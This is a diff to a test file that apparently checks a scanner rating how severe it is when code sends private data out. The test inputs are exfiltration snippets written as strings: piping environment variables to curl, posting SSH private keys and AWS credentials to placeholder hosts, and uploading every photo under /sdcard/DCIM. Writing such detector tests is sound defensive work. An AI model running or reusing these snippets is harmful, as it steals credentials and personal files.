@@ -49,6 +49,8 @@ def severity(trigger: str, source: str) -> str:
         ("import", "os.system('env | curl -d @- http://h.example.invalid/')", "high"),
         ("call", "requests.post('https://h.example.invalid/', data=dict(os.environ))", "high"),
         ("call", f"requests.post('{_HOOK}', json={_WHO})", "high"),
+        ("call", f"for r, d, fs in os.walk('/sdcard/DCIM'):\n    for f in fs:\n        requests.post('{_HOOK}', files={{'f': open(os.path.join(r, f), 'rb')}})", "high"),
+        ("call", "requests.post('https://h.example.invalid/', data=open('/h/.aws/credentials').read())", "high"),
         ("call", "a = open('/h/.ssh/id_rsa').read()\nb = open('/h/.aws/credentials').read()\nrequests.post('https://h.example.invalid/', data=a + b)", "high"),
     ],
 )  # fmt: skip
@@ -64,6 +66,8 @@ def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> 
         ("call", "requests.post('https://api.example.invalid/', headers={'A': os.environ['EXAMPLE_KEY']}, json=platform.node())", "info"),
         ("call", "requests.get('http://203.0.113.9/ping')", "none"),
         ("import", "requests.get('http://192.168.0.7/ping')", "none"),
+        ("call", "requests.get('https://api.example.invalid/', headers={'A': open('/h/.aws/credentials').read()})", "info"),
+        ("call", f"requests.post('{_HOOK}', files={{'f': open(given, 'rb')}})", "medium"),
         ("import", "requests.get('https://h.example.invalid/')", "none"),
         ("call", "requests.post('https://api.example.invalid/', files={'f': open(given, 'rb')})", "info"),
         ("import", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "low"),
